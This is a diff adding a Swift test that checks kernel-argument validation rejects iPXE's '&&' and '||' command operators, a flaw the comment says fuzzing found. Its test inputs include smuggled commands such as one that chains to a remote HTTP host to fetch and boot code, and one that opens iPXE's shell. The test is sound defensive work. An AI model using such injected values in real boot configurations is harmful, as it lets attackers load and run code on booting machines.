@@ -205,6 +205,14 @@ struct DiagnosticTests {
         #expect(result.diagnostics.allSatisfy { !$0.description.unicodeScalars.contains(where: Names.isControlOrLineBreak) })
     }
 
+    /// Found by `make fuzz` (the boot target): a word `&&` or `||` in a profile's `args` or a
+    /// machine's `kernelArgs` was valid, and iPXE ran what followed it as a command.
+    @Test("kernel arguments refuse iPXE's && and || operators", arguments: ["quiet && chain http://198.18.0.66/x", "|| shell", "a \u{301} && b"])
+    func ipxeOperators(_ arguments: String) {
+        #expect(throws: ValueError.self) { try Names.kernelArguments(arguments).get() }
+        #expect(throws: Never.self) { try Names.kernelArguments("a&&b x||y console=ttyS0 &&\u{301}").get() }
+    }
+
     @Test("all errors of a load are reported together, sorted")
     func allErrorsTogether() {
         let result = load([
